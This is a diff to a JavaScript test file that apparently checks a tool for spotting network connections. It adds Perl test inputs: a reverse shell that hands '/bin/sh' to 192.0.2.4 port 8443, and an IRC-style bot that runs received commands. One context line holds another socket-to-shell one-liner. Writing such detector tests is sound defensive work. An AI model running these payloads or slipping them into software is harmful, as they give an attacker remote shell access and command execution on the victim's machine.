@@ -279,6 +279,16 @@ describe('sockets', () => {
       'connect to={host=192.0.2.4 port=8443',
     ],
     [
+      'a descriptor by its number',
+      'use Socket; $^F = 255; socket(S,2,1,6); connect(S,sockaddr_in(8443,inet_aton("192.0.2.4"))); exec "/bin/sh -i <&3 >&3 2>&3";',
+      'connect to={host=192.0.2.4 port=8443',
+    ],
+    [
+      'a bot',
+      'my $q = IO::Select->new; my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.4", PeerPort => 8443); $q->add($s); while (1) { for my $h ($q->can_read(1)) { sysread($h, my $m, 4096); for (split /\\n/, $m) { go($1) if /^:\\S+ PRIVMSG \\S+ :!(.*)/ } } } sub go { my $c = shift; my @o = `$c 2>&1`; }',
+      'connect to={host=192.0.2.4 port=8443',
+    ],
+    [
       'an address in bytes',
       'socket(S,2,1,6); connect(S, pack("Sna4x8", 2, 8443, pack("C4", 192, 0, 2, 4))); open STDIN, "<&S"; open STDOUT, ">&S"; exec "sh";',
       'connect to={host=192.0.2.4 port=8443',
